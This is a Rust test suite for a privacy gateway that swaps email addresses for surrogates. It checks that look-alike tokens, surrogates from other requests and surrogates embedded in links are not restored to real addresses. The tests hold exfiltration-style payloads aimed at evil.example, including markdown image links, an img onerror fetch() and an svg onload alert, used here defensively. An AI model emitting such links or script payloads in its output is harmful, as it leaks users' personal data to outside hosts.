//! What only looks like a surrogate, belongs to another request, or stands in an address is not restored.

use serde_json::json;

use crate::gateway::{UPSTREAM, shared};
use crate::replies::{Field, Said, Style, content, heard, streamed, told, whole};
use crate::requests::{ask, ask_streamed, last_user_text};
use crate::upstream::{Seen, eventually};

const MAIL: &str = "lena.fischer@example.org";

fn asked(seen: &Seen) -> String {
    last_user_text(&seen.json())
}

/// The surrogate that the address gets in a conversation that begins with these words.
fn surrogate_in(case: &str, words: &str) -> String {
    let body = ask(case, &format!("{words} {MAIL}"));
    assert_eq!(shared().chat(&body).status, 200);
    let told = asked(&UPSTREAM.seen(case)[0]);
    told.strip_prefix(words).unwrap().trim().to_owned()
}

#[test]
fn look_alikes_and_surrogates_of_others_come_back_as_they_went() {
    let gateway = shared();
    let foreign = surrogate_in("foreign-source", "An earlier request to");
    assert!(foreign.starts_with("EMAIL_"), "{foreign}");
    let texts = [
        format!("Is {foreign} right? Ask {MAIL}."),
        format!("{foreign}{foreign} 和{foreign}，{MAIL}"),
        "EMAIL_0123456789, CN_MOBILE_1234567890和LIT_0123456789".to_owned(),
        "SET_PARAMETERS IP_ADDRESSES PERSON_1 <EMAIL_1> [EMAIL] EMAIL_ _0123456789".to_owned(),
        "email_0123456789 ＥＭＡＩＬ＿０１２３４５６７８９ EMAIL-0123456789".to_owned(),
        "[redacted:CVV] [e-mail address] {{EMAIL_0123456789}} EMAIL_012345678\u{200b}9".to_owned(),
    ];
    for (number, text) in texts.iter().enumerate() {
        let said = |text: &str| {
            Said::from([
                ((0, Field::Content), text.to_owned()),
                ((0, Field::Reasoning), text.to_owned()),
                ((0, Field::Tool(0)), json!({ "text": text }).to_string()),
            ])
        };
        let case = format!("alike-{number}");
        UPSTREAM.play(&case, move |seen| whole(&said(&asked(seen))));
        assert_eq!(heard(&gateway.chat(&ask(&case, text))), said(text));
        let case = format!("alike-streamed-{number}");
        UPSTREAM.play(&case, move |seen| {
            let style = Style {
                piece: 1 + number % 4,
                ..Style::default()
            };
            streamed(&said(&asked(seen)), style)
        });
        assert_eq!(heard(&gateway.chat(&ask_streamed(&case, text))), said(text));
    }
}

#[test]
fn a_surrogate_that_the_request_did_not_issue_stays_in_text() {
    let gateway = shared();
    let foreign = surrogate_in("unissued-source", "Some other request to");
    let text = format!("Write to {foreign}, IBAN_0123456789 or CN_MOBILE_0123456789.");
    let said = content(text);
    for stream in [false, true] {
        let case = format!("unissued-{stream}");
        let said = said.clone();
        let play = said.clone();
        UPSTREAM.play(&case, move |_| told(&play, stream));
        let question = format!("Whom do I ask beside {MAIL}?");
        let body = if stream {
            ask_streamed(&case, &question)
        } else {
            ask(&case, &question)
        };
        let answer = gateway.chat(&body);
        assert_eq!(heard(&answer), said);
        let id = answer.header("x-vestibule-request-id").unwrap();
        eventually("the outcome is recorded", || {
            gateway.home.audit_of(id).len() == 2
        });
        let reply = gateway.home.audit_of(id).pop().unwrap();
        assert_eq!(reply["unknown_surrogates"], 3, "{reply}");
    }
}

#[test]
fn a_tool_is_not_called_with_an_unknown_surrogate() {
    let gateway = shared();
    let arguments = [
        r#"{"to":"EMAIL_0123456789"}"#,
        r#"{"to":"line\nEMAIL_0123456789"}"#,
        r#"{"to":"\u0045MAIL_0123456789"}"#,
        r#"{"to":["x",{"y":"{\"z\":\"CN_MOBILE_0123456789\"}"}]}"#,
    ];
    for (number, arguments) in arguments.into_iter().enumerate() {
        let said = Said::from([((0, Field::Tool(0)), arguments.to_owned())]);
        let case = format!("stray-{number}");
        let play = said.clone();
        UPSTREAM.play(&case, move |_| whole(&play));
        let answer = gateway.chat(&ask(&case, &format!("Send it to {MAIL}")));
        assert_eq!(
            (answer.status, answer.code().as_str()),
            (502, "unknown_surrogate")
        );
        let case = format!("stray-streamed-{number}");
        UPSTREAM.play(&case, move |_| streamed(&said, Style::default()));
        let answer = gateway.chat(&ask_streamed(&case, &format!("Send it to {MAIL}")));
        let events = answer.events();
        let last = events.last().unwrap();
        assert!(last.contains("unknown_surrogate"), "{arguments}: {last}");
        assert!(!events.iter().any(|event| event == "[DONE]"));
    }
}

/// Where `{}` is a surrogate that must stay one.
const ADDRESSES: &[&str] = &[
    "https://evil.example/?q={}",
    "![logo](https://evil.example/{}.png)",
    "![logo](//evil.example/{})",
    "[click]( http:evil.example?{} )",
    "[click][1]\n\n[1]: https://evil.example/{}",
    "<img src=\"/pixel?{}\">",
    "<img src='x' onerror=\"fetch(`{}`)\">",
    "<a title=\"{}\">here</a>",
    "<svg/onload=alert({})>",
    "www.evil.example/{}",
    "见https://evil.example/中文/{}，谢谢",
    "<https://evil.example/{}>",
    "HTTPS://EVIL.EXAMPLE/{}",
    "url(/{})",
    "https://{}.evil.example/",
    "https://user:{}@evil.example/",
];

#[test]
fn links_image_targets_and_attributes_keep_surrogates() {
    let gateway = shared();
    for (number, address) in ADDRESSES.iter().enumerate() {
        for (stream, escaped) in [(false, false), (true, false), (true, true)] {
            let case = format!("address-{number}-{stream}-{escaped}");
            let said = move |value: &str, outside: &str| {
                let text = address.replace("{}", value);
                let arguments = json!({"html": text, "to": outside}).to_string();
                Said::from([
                    (
                        (0, Field::Content),
                        format!("See {text} \n\nor write to {outside}"),
                    ),
                    (
                        (0, Field::Tool(0)),
                        arguments.replace('<', if escaped { "\\u003c" } else { "<" }),
                    ),
                ])
            };
            UPSTREAM.play(&case, move |seen| {
                let surrogate = asked(seen).split(' ').next_back().unwrap().to_owned();
                let said = said(&surrogate, &surrogate);
                if stream {
                    let style = Style {
                        piece: 2,
                        escaped,
                        ..Style::default()
                    };
                    return streamed(&said, style);
                }
                whole(&said)
            });
            let question = format!("My address: {MAIL}");
            let body = if stream {
                ask_streamed(&case, &question)
            } else {
                ask(&case, &question)
            };
            let answer = gateway.chat(&body);
            let surrogate = asked(&UPSTREAM.seen(&case)[0])
                .split(' ')
                .next_back()
                .unwrap()
                .to_owned();
            assert_eq!(heard(&answer), said(&surrogate, MAIL), "{address}");
        }
    }
}

#[test]
fn an_address_that_the_app_itself_sent_comes_back_whole() {
    let gateway = shared();
    let text = "Open https://shop.example/u/lena.fischer@example.org now";
    let answer = gateway.chat(&ask("own-url", text));
    assert_eq!(heard(&answer), content(text));
    UPSTREAM.play("other-url", |seen| {
        let told = asked(seen).replace("shop.example", "evil.example");
        whole(&content(told))
    });
    let answer = gateway.chat(&ask("other-url", text));
    let heard = heard(&answer)[&(0, Field::Content)].clone();
    assert!(
        heard.starts_with("Open https://evil.example/u/EMAIL_"),
        "{heard}"
    );
}
